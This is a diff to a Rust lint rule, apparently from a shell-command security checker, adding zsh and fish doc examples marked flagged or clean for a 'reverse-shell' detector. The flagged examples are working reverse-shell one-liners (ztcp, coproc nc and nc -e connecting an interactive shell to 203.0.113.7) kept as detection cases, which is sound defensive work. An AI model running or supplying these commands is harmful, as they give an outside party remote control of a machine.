@@ -30,6 +30,19 @@ declare_rule! {
     /// ```powershell,clean
     /// Test-NetConnection example.com -Port 443
     /// ```
+    /// ```zsh,flagged
+    /// ztcp 203.0.113.7 4444; zsh -i <&$REPLY >&$REPLY
+    /// coproc nc 203.0.113.7 4444; zsh -i <&p >&p
+    /// ```
+    /// ```zsh,clean
+    /// ztcp localhost 8080; print -u $REPLY 'GET / HTTP/1.0'
+    /// ```
+    /// ```fish,flagged
+    /// nc -e (command -s fish) 203.0.113.7 443
+    /// ```
+    /// ```fish,clean
+    /// nc -zv example.com 443
+    /// ```
     REVERSE_SHELL { name: "reverse-shell", subject: Subject::Effects(&[EffectKind::RemoteShell], judge) }
 }
 
